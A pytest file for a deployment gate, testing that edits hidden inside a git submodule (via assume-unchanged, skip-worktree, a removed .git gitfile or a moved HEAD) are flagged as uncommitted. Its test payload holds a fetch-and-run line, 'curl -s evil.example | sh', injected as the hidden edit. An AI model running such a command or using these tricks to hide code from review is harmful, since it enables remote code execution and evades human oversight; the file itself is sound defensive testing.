"""rt17b A01, A04: a committed submodule's folder must be exactly the commit its gitlink pins.

git's own look into a submodule (``git diff --ignore-submodules=none``) trusted the
submodule's own index: an assume-unchanged or skip-worktree bit there hid an edit of its
files (A01), and a folder whose ``.git`` gitfile was removed counted as not checked out,
whatever it held (A04). Gate dirty=false, verdict 0, for code nobody reviewed.

Real release repositories (examples/release_repo.py) with a real submodule in the first,
signed-off commit; the gate via pytest, ``deploygate verdict`` via the CLI.
"""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest
from test_attack_rt12a import gate, git, verdict

from conftest import release_repo_script

EDIT = 'import os\ndef handler():\n    os.system("curl -s evil.example | sh")\n    return "ok"\n'


def _repository(folder: Path) -> Path:
    folder.mkdir()
    git(folder, "init", "-q")
    (folder / "lib.py").write_text('def handler():\n    return "ok"\n')
    git(folder, "add", "lib.py")
    git(folder, "commit", "-qm", "library")
    return folder


def _release(tmp_path: Path, *, nested: bool = False) -> Path:
    """The example release with the submodule ``vendor/lib`` in its first commit (so the
    sign-offs cover it), checked out as committed; ``nested``: with a submodule ``inner`` of
    its own."""
    library = _repository(tmp_path / "library")
    if nested:
        git(library, "-c", "protocol.file.allow=always", "submodule", "add", "-q",
            str(_repository(tmp_path / "inner")), "inner")
        git(library, "commit", "-qm", "inner")
    module = release_repo_script("release_repo_rt17b_submodules")
    plain = module.Repo.commit
    first = [True]

    def commit(self: object, paths: list[str], message: str, *, who: str, at: str) -> None:
        if first[0]:
            first[0] = False
            self.run("-c", "protocol.file.allow=always", "submodule",  # type: ignore[attr-defined]
                     "add", "-q", str(library), "vendor/lib", who=who, at=at)
            self.run("-c", "protocol.file.allow=always", "submodule",  # type: ignore[attr-defined]
                     "update", "-q", "--init", "--recursive", who=who, at=at)
        plain(self, paths, message, who=who, at=at)

    module.Repo.commit = commit
    root: Path = module.materialise(tmp_path / "acme-api")
    return root


def _dirty(root: Path) -> bool:
    text = (root / "gate-records" / "GATE-12.xml").read_text()
    return 'deploygate.dirty" value="true"' in text


def _bit(flag: str) -> Callable[[Path], None]:
    def hide(library: Path) -> None:
        (library / "lib.py").write_text(EDIT)
        git(library, "update-index", flag, "lib.py")
    return hide


def _gitfile_removed(library: Path) -> None:
    (library / "lib.py").write_text(EDIT)
    (library / ".git").unlink()


def _head_moved(library: Path) -> None:
    (library / "lib.py").write_text(EDIT)
    git(library, "commit", "-qam", "unreviewed")


def _head_moved_files_as_pinned(library: Path) -> None:
    """Only the submodule's HEAD says so (the superproject's diff no longer looks)."""
    git(library, "commit", "-q", "--allow-empty", "-m", "unreviewed")


@pytest.mark.parametrize("change", [_bit("--assume-unchanged"), _bit("--skip-worktree"),
                                    _gitfile_removed, _head_moved,
                                    _head_moved_files_as_pinned],
                         ids=["assume-unchanged", "skip-worktree", "gitfile removed",
                              "HEAD moved", "HEAD moved, files as pinned"])
def test_a_submodule_not_as_pinned_is_uncommitted(tmp_path: Path,
                                                   change: Callable[[Path], None]) -> None:
    root = _release(tmp_path)
    change(root / "vendor" / "lib")
    if change not in (_head_moved, _head_moved_files_as_pinned):
        assert git(root, "status", "--porcelain") == ""  # (the job's own git is fooled)
    gate(root)
    assert _dirty(root)
    done = verdict(root)
    assert done.returncode == 4, done.stdout + done.stderr
    assert "uncommitted changes to release content (vendor/lib)" in done.stderr, done.stderr


def test_an_honest_submodule_passes(tmp_path: Path) -> None:
    root = _release(tmp_path)
    done = gate(root)
    assert done.returncode == 0, done.stdout + done.stderr
    assert not _dirty(root)
    assert verdict(root).returncode == 0


def test_a_submodule_never_initialised_stays_clean(tmp_path: Path) -> None:
    """An empty gitlink folder (a clone without --recurse-submodules): git writes nothing
    there, nothing of it is deployed from the work tree."""
    root = _release(tmp_path)
    git(root, "submodule", "deinit", "-q", "-f", "vendor/lib")
    assert not any((root / "vendor" / "lib").iterdir())
    gate(root)
    assert not _dirty(root)
    assert verdict(root).returncode == 0


def test_a_nested_submodule_is_checked_too(tmp_path: Path) -> None:
    root = _release(tmp_path, nested=True)
    honest = gate(root)
    assert honest.returncode == 0, honest.stdout + honest.stderr
    assert verdict(root).returncode == 0
    inner = root / "vendor" / "lib" / "inner"
    _bit("--assume-unchanged")(inner)
    assert git(root, "status", "--porcelain") == ""  # (the job's own git is fooled)
    gate(root)
    assert _dirty(root)
    done = verdict(root)
    assert done.returncode == 4
    assert "uncommitted changes to release content (vendor/lib)" in done.stderr, done.stderr
